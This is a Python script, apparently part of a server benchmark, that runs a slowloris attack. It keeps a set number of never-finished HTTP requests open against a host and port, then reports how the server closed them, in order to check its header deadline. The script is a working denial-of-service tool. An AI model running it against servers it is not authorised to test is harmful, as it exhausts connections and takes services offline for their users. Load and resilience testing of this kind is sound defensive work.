#!/usr/bin/env python3
"""slowloris.py HOST PORT CONNS SECONDS — hold CONNS never-finished requests open, then exit.

Each connection sends the start of a request (request line, Host, one header name) and then
one more header byte per second, so its header never ends. A connection the server closes
(its header deadline) is counted and reopened at the next tick, so CONNS stay pending for the
whole run — the pressure a slowloris attacker keeps up. The script stops by itself after
SECONDS, closing everything.

stdout: one `ready N` line once N connections are open (bench/run.sh waits for it), then at the
end one JSON line: how many were opened, how many the server closed, and how long those had
lived (which shows whether a header deadline is enforced).
"""

import json
import socket
import sys
import time

HEAD = (b"POST / HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
        b"X-Slow: ")
TRICKLE = b"abcdefghijklmnopqrstuvwxyz"  # one byte of this per second, never a CRLF


def open_conn(host, port):
    """A connected socket that has sent HEAD, or None when the server refused it."""
    try:
        s = socket.create_connection((host, port), timeout=2)
        s.sendall(HEAD)
        s.setblocking(False)
        return s
    except OSError:
        return None


def server_closed(s):
    """True when the server has closed (or answered, e.g. 408) this connection."""
    try:
        s.recv(4096)
        return True  # b"" is a close; any answer means the server gave up on the request
    except BlockingIOError:
        return False
    except OSError:
        return True


def main():
    host, port, want, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
    deadline = time.monotonic() + seconds
    conns = []  # [socket, opened_at, bytes_trickled]
    opened = refused = closed = 0
    lifetimes = []
    ready_said = False
    while time.monotonic() < deadline:
        now = time.monotonic()
        # Drop what the server closed; keep trickling into the rest.
        alive = []
        for c in conns:
            s, born, n = c
            if server_closed(s):
                closed += 1
                lifetimes.append(now - born)
                s.close()
                continue
            try:
                s.send(TRICKLE[n % len(TRICKLE):n % len(TRICKLE) + 1])
                c[2] = n + 1
                alive.append(c)
            except OSError:
                closed += 1
                lifetimes.append(now - born)
                s.close()
        conns = alive
        # Top up to CONNS.
        while len(conns) < want and time.monotonic() < deadline:
            s = open_conn(host, port)
            if s is None:
                refused += 1
                break
            opened += 1
            conns.append([s, time.monotonic(), 0])
        if not ready_said and len(conns) >= want:
            print(f"ready {len(conns)}", flush=True)
            ready_said = True
        # Sleep to the next whole second of the run: one byte per connection per second.
        time.sleep(max(0.0, min(1.0 - (time.monotonic() - now), deadline - time.monotonic())))
    open_at_end = len(conns)
    for s, _, _ in conns:
        s.close()
    lifetimes.sort()
    print(json.dumps({
        "conns": want,
        "opened": opened,
        "refused": refused,
        "closed_by_server": closed,
        "open_at_end": open_at_end,
        "closed_lifetime_min_s": round(lifetimes[0], 2) if lifetimes else None,
        "closed_lifetime_median_s": round(lifetimes[len(lifetimes) // 2], 2) if lifetimes else None,
    }), flush=True)


if __name__ == "__main__":
    main()
